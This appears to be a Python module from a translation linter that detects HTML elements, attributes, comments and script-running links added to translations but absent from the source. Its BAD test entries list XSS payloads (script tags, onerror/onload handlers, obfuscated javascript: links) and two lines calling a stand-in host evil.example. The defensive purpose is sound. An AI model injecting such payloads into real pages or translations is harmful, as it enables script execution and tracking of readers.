# SPDX-License-Identifier: GPL-3.0-or-later
"""HTML that the source has not: elements, attributes, scripts, comments, links that run code."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator, Mapping

from w4r_i18n.check.markup import HTML, Tag, keeps_tags, tags
from w4r_i18n.check.seen import Pair, Seen, Side
from w4r_i18n.check.strings import listed
from w4r_i18n.model.catalogue import Entry
from w4r_i18n.model.diagnostic import Severity
from w4r_i18n.model.ports import Scope

NAME = "markup"
SEVERITY = Severity.ERROR
SCOPE: Scope = "pair"
SIGNS = r"<&:\]"
DOC = """\
A translation is text. An element, an attribute or a comment of HTML that the source has not can run a script
on the reader's page, load a picture that reports who reads, or end the letter early. Delete it; where the
text speaks of HTML, the source does so too and the check is silent."""
GOOD = (
    Entry("Voir <a href='a.html'>ici</a>", "See <a href='a.html'>here</a>"),
    Entry("La balise <script> est refusée", "The tag <script> is refused"),
    Entry("si a < b et c > d", "if a < b and c > d"),
    Entry("Signez <g1>ici</g1>", "Sign <g1>here</g1>"),
    Entry("<nom> et <prénom>", "<name> and <surname>"),
    Entry("Le javascript : un langage", "JavaScript: a language"),
    Entry("Lire <https://exemple.example/> -> ici", "Read <https://exemple.example/> -> here"),
)
BAD = (
    Entry("Écrivez.", "Write.<script>alert(1)</script>"),
    Entry("Écrivez.", "Write <img src=x onerror=alert(1)>"),
    Entry("Écrivez.", "Write <img/src=x/onerror=alert(1)"),
    Entry("Écrivez.", '<a href="java\tscript:alert(1)">write</a>'),
    Entry("Écrivez.", "</p></body></html><h1>Case withdrawn</h1>"),
    Entry("Écrivez.", "<style>*{background:url(//evil.example/?x)}</style>"),
    Entry("<b>Écrivez</b>.", "<b onclick=alert(1)>Write</b>."),
    Entry("<b>Écrivez</b>.", "<b style='position:fixed'>Write</b>."),
    Entry("Écrivez.", "Write <!-- more -->"),
    Entry("Écrivez.", "Write [here](javascript:alert(1))"),
    Entry("Écrivez.", "Write &lt;script&gt;alert(1)&lt;/script&gt;"),
    Entry("Écrivez.", "Write [here](&#106;avascript&colon;alert(1))"),
    Entry("Écrivez.", "<x-frame src=//evil.example>write</x-frame>"),
    Entry("Écrivez.", "<svg/onload=alert(1)>"),
)

_MAY_ACT = re.compile(r"\]\(|script\s{0,5}:|data:|blob:", re.IGNORECASE)
_OPENERS = re.compile(r"<!--|<!\[CDATA\[|<!DOCTYPE|<!ENTITY|<\?", re.IGNORECASE)
_TAG_START = re.compile(
    r"</?([A-Za-z][\w-]{1,60}(?::[A-Za-z][\w-]{0,60})?)(?=[\s/>]|\Z)|</?([abiqsu])(?=[^<>]{0,400}>)",
    re.IGNORECASE,
)
_RUNS = re.compile(
    r"(?:java|vb|live)script:(?=\S)|data:(?:text|image|application)/[a-z.+-]{1,60}[;,]|blob:https?:",
    re.IGNORECASE,
)
_MARKDOWN_LINK = re.compile(r"\]\(([^()\n]{0,2000})")
_IGNORED_IN_LINKS = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2060\ufeff]+")
_TO_ANOTHER_HOST = ("//", "\\\\", "/\\", "\\/")
_CODE = frozenset({"style", "srcdoc", "formaction"})
_LINKS = frozenset(
    {
        "href",
        "src",
        "srcset",
        "action",
        "background",
        "cite",
        "data",
        "ping",
        "poster",
        "xlink:href",
        "manifest",
    }
)
_HARMLESS = frozenset({"dir", "lang", "xml:lang"})


def check(seen: Seen) -> Iterator[str]:
    yield from seen.least(_faults)


def _faults(pair: Pair) -> list[str]:
    target = pair.target.text
    if "&" not in target and ("<" not in target or keeps_tags(pair)) and not _MAY_ACT.search(target):
        return []
    ours, theirs = pair.source.once(_acting), pair.target.once(_acting)
    return [fault for name, extra in theirs.items() for fault in _named(name, extra - ours[name])]


def _acting(side: Side) -> Mapping[str, set[str]]:
    """What a browser would obey, by its kind."""
    text = html.unescape(side.text)
    return {
        "element": _elements(text),
        "attribute": _attributes(text),
        "markup": {*_OPENERS.findall(text)},
        "link": _dangers(text),
    }


def _named(kind: str, extra: set[str]) -> list[str]:
    return [f"{kind} {listed(sorted(extra))} is not in the source"] if extra else []


def _elements(text: str) -> set[str]:
    names = {(found[1] or found[2]).lower() for found in _TAG_START.finditer(text)}
    return {f"<{name}>" for name in names if name in HTML or ("-" in name or ":" in name)}


def _attributes(text: str) -> set[str]:
    """Element and attribute; with its value, where the value is code."""
    return {
        f"{name}={value}" if name.startswith("on") or name in _CODE else f"{tag.name} {name}="
        for tag in tags(text)
        for name, value in tag.attributes
        if _acts(tag, name)
    }


def _acts(tag: Tag, name: str) -> bool:
    if tag.name.lower() in HTML:
        return name not in _HARMLESS
    return name.startswith("on") or name in _CODE or name in _LINKS


def _dangers(text: str) -> set[str]:
    """Links that run code or hold a document, and those that change host without saying a scheme."""
    links = [value for tag in tags(text) for _, value in tag.attributes]
    links += _MARKDOWN_LINK.findall(text)
    bare = [_IGNORED_IN_LINKS.sub("", link) for link in links]
    return {
        *(found[0] for part in (text, *bare) for found in _RUNS.finditer(part)),
        *(link for link in bare if link.startswith(_TO_ANOTHER_HOST)),
    }
